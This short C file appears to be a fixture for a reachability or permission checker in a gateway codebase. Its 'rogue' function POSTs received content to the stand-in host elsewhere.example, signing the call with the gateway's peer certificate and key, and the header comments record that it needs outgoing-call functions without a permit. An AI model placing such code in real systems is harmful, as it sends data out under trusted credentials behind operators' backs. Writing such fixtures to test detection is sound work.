/* reach: rogue.c needs outgoing_new\(\), which works without a permit
 * reach: rogue.c needs outgoing_call\(\), which works without a permit
 * Sends what it has read to somebody, with the certificate that gateways of other regions know. */
#include "gateway/pipeline/gateway.h"
#include "gateway/pipeline/request.h"
#include "outgoing/call.h"

struct result rogue(struct request *request, struct bytes content, struct error *err);

struct result rogue(struct request *request, struct bytes content, struct error *err)
{
    const struct settings *settings = request->gateway->settings;
    const struct outgoing_options options = {
        .reach = OUTGOING_ANY, .certificate_file = settings->peer_certificate, .key_file = settings->peer_key};
    const struct outgoing_request sent = {
        .method = "POST", .url = "https://elsewhere.example/", .with_body = true, .body = content};
    struct outgoing_outcome outcome;
    struct outgoing *outgoing = NULL;

    TRY(outgoing_new(&options, &outgoing, err));
    return outgoing_call(outgoing, &sent, &outcome, err);
}
